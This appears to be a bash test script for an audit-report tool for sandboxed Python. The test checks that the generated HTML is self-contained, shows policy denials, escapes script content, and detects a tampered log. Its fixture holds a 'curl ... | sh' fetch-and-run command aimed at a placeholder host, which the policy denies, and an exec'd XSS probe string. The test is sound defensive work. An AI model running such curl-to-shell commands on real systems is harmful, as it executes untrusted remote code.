#!/usr/bin/env bash
# spython-audit report (issue 5): one self-contained HTML file, read in a
# real browser (headless Debian Chromium) with no network at all: integrity,
# denials highlighted, transcripts with their source, a timeline per process.
source "$(dirname "$0")/../lib.sh"
AUDIT=$BUILD/spython-audit
write_policy "deny os.system"

cat > "$T/incident.py" <<'PY'
import collections, os
P = collections.namedtuple("P", "a b")
try:
    os.system("curl http://example.invalid/x | sh")
except PermissionError:
    pass
payload = "import base64\nprint('<script>alert(1)</script> & \u00e9')\n"
exec(payload)
PY
sign "$T/incident.py"
run_spy "$T/incident.py"
run_spy "$T/incident.py"
"$AUDIT" report -o "$T/report.html" "$LOG" > "$T/r.out" 2>&1
check "report: exit 0, one file written" bash -c "[ $? -eq 0 ] && [ -s '$T/report.html' ] && [ ! -e '$T/report.html.tmp' ]"
check "report: self-contained (no script, no external reference, a CSP that forbids fetches)" \
    /usr/bin/python3 - "$T/report.html" <<'PY'
import re, sys
html = open(sys.argv[1], encoding="utf-8").read()
assert "<script" not in html.lower()
assert not re.search(r'(src|href)\s*=\s*"(?!#)', html), re.search(r'(src|href)\s*=\s*"(?!#)[^"]*', html)
assert "default-src 'none'" in html
PY

browser=$(command -v chromium || command -v chromium-browser || true)
if [ -z "$browser" ]; then
    echo "skip: the browser checks need Debian's chromium (make deps installs it)"
else
    profile=$(mktemp -d "$T/chromium.XXXXXX")
    # A network namespace of its own: the page cannot fetch anything.
    offline=""
    if unshare -n true 2> /dev/null; then offline="unshare -n"; fi
    $offline timeout 120 "$browser" --headless --no-sandbox --disable-gpu \
        --disable-background-networking --disable-component-update --disable-sync \
        --no-first-run --user-data-dir="$profile" --dump-dom "file://$T/report.html" \
        > "$T/dom.html" 2> "$T/chromium.err"
    check "the page loads in headless Chromium${offline:+, offline}" test -s "$T/dom.html"
    check "the browser shows the denial, highlighted, with its reason" /usr/bin/python3 - "$T/dom.html" <<'PY'
import sys
from html.parser import HTMLParser
class P(HTMLParser):
    def __init__(self):
        super().__init__(); self.rows = []; self.cur = None; self.sec = None
    def handle_starttag(self, tag, a):
        a = dict(a)
        if tag == "h2": self.sec = a.get("id")
        if tag == "tr": self.cur = {"class": a.get("class"), "sec": self.sec, "text": ""}
    def handle_endtag(self, tag):
        if tag == "tr" and self.cur: self.rows.append(self.cur); self.cur = None
    def handle_data(self, d):
        if self.cur is not None: self.cur["text"] += d
p = P(); p.feed(open(sys.argv[1], encoding="utf-8").read())
den = [r for r in p.rows if r["sec"] == "denials" and r["class"] == "deny"]
assert len(den) == 2 and all("os.system" in r["text"] and "denied by policy" in r["text"] for r in den), den
tl = [r for r in p.rows if r["sec"] == "timelines"]
assert any(r["class"] == "deny" and "os.system" in r["text"] for r in tl)
assert sum("spython.start" in r["text"] for r in tl) == 2
PY
    check "the browser shows the transcript's source as text, escaped, and the namedtuple collapsed" \
        /usr/bin/python3 - "$T/dom.html" <<'PY'
import sys
dom = open(sys.argv[1], encoding="utf-8").read()
anom = dom[dom.index("Anomalies"):dom.index("Benign")]
assert "print('&lt;script&gt;alert(1)&lt;/script&gt; &amp; \u00e9')" in anom, anom[:3000]
assert "compiled 2, executed 2" in anom
assert "incident.py:8" in anom
benign = dom[dom.index("Benign"):dom.index("Exec of code")]
assert "collections.namedtuple" in benign and "lambda _cls" not in benign
assert "<script>" not in dom
PY
    check "the integrity section says every chain is intact" grep -q "Every chain is intact and closed" "$T/dom.html"
    rm -rf "$profile"
fi

# A damaged log still makes a report, which says so.
sed -i '5s/"allow"/"deny"/' "$LOG"
printf '{"torn' >> "$LOG"
"$AUDIT" report -o "$T/report2.html" "$LOG" > /dev/null 2> "$T/r2.err"; rc=$?
check "a tampered, torn log: the report is made and shows the tampering" \
    bash -c "[ $rc -eq 0 ] && grep -q 'Evidence of tampering' '$T/report2.html' && grep -q 'torn last line' '$T/r2.err'"
"$AUDIT" report -o "$T/nodir/x.html" "$LOG" > /dev/null 2>&1
check "report into a directory that does not exist: exit 2" test $? -eq 2
finish
